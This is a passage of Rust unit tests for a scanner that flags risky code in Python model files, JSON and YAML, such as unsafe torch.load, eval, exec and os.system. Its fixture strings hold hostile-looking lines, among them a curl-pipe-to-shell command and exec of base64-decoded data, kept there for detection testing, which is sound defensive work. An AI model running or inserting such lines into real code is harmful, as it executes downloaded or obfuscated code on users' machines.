        let benign = "import torch\nfrom torch import nn\n\nclass M(nn.Module):\n    \"\"\"Uses eval( in a docstring.\n    os.system( too\n    \"\"\"\n    def f(self):\n        self.eval()  # eval( in a comment\n        return ast.literal_eval('1') + re.compile('x')\n        x = torch.load(p, weights_only=True)\n";
        assert_eq!(rules(&check_python_source(benign)), ["HFR106"]);
        let bad = "import os, subprocess\nos.system('curl x | sh')\nexec(base64.b64decode(s))\nimport socket\nsd = torch.load(path)\nrequests.get(u)\n";
        let f = check_python_source(bad);
        assert_eq!(
            rules(&f),
            [
                "HFR106", "HFR107", "HFR107", "HFR107", "HFR108", "HFR108", "HFR108", "HFR107"
            ]
        );
        assert!(f[2].evidence.as_deref().unwrap().starts_with("line 2: os.system"));
        assert!(f.last().unwrap().message.contains("base64"));
        let wrapped = "sd = torch.load(\n    path,\n    weights_only=True,\n)\n";
        assert_eq!(rules(&check_python_source(wrapped)), ["HFR106"]);
    }

    #[test]
    fn not_json_or_hostile_json_is_quiet() {
        assert_eq!(check_json("not json"), HfReport::default());
        assert_eq!(check_json(&"[".repeat(100_000)), HfReport::default());
        let _ = check_yaml_text("_target_\n_target_:\n: _target_ :\n!!\n!!python/");
        let _ = check_python_source("\"\"\"\n'''\n#\"\"\"\n");
    }
}
